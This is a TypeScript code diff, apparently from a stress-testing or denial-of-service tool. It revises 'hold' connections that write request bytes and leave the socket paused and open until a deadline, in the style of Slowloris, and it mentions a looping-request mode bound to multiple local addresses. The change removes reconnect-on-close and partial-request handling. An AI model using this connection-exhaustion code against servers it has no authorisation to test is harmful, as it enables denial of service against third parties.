@@ -16,13 +16,11 @@ interface Common {
   seconds: number
 }
 
-/** Connections that send a part of a request, or requests whose answers they do not read. */
+/** Connections that send requests whose answers they do not read. */
 export interface Hold extends Common {
   kind: 'hold'
   /** Latin-1. */
   bytes: string
-  /** Whether answers are read. Then a connection that the server closes is opened again. */
-  reads: boolean
 }
 
 /** Connections that send one request after another. */
@@ -36,23 +34,17 @@ export interface Loop extends Common {
   perAddress: number
 }
 
-/** Milliseconds after which a closed connection is opened again. */
+/** Milliseconds after which a client whose request failed sends the next one. */
 const PAUSE = 100
 
 async function hold(attack: Hold, index: number, end: number): Promise<void> {
   const { hostname, port } = new URL(attack.url)
   const localAddress = attack.addresses[index % attack.addresses.length]
-  do {
-    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
-    const closed = new Promise((resolve) => socket.on('error', () => {}).once('close', resolve))
-    socket.write(attack.bytes, 'latin1')
-    if (attack.reads) socket.resume()
-    else socket.pause()
-    const rest = setTimeout(end - performance.now())
-    await (attack.reads ? Promise.race([closed, rest]) : rest)
-    socket.destroy()
-    await setTimeout(PAUSE)
-  } while (performance.now() < end)
+  const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
+  socket.on('error', () => {}).pause()
+  socket.write(attack.bytes, 'latin1')
+  await setTimeout(end - performance.now())
+  socket.destroy()
 }
 
 async function loop(attack: Loop, index: number, end: number): Promise<void> {
